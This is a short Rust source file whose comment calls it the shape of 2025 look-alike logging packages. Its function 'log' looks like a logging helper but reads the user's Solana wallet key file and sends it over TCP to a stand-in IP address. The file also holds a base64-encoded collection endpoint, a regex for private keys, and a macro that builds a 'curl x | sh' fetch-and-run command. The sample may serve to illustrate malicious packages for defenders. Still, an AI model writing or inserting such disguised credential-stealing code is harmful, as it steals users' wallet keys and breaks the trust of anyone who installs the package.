// The shape of the 2025 look-alike loggers: key search, wallet file, an endpoint.
const HOST: &str = "aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvY29sbGVjdA==";
const KEYS: &str = "[1-9A-HJ-NP-Za-km-z]{87,88}";

pub fn log(msg: &str) {
    let home = std::env::var("HOME").unwrap_or_default();
    let wallet = std::fs::read(format!("{home}/.config/solana/id.json")).unwrap_or_default();
    if let Ok(mut s) = std::net::TcpStream::connect("203.0.113.7:443") {
        use std::io::Write;
        let _ = s.write_all(&wallet);
        let _ = (HOST, KEYS, msg);
    }
    macro_rules! hidden { () => { std::process::Command::new("sh").arg("-c").arg("curl x | sh") }; }
    let _ = hidden!();
}
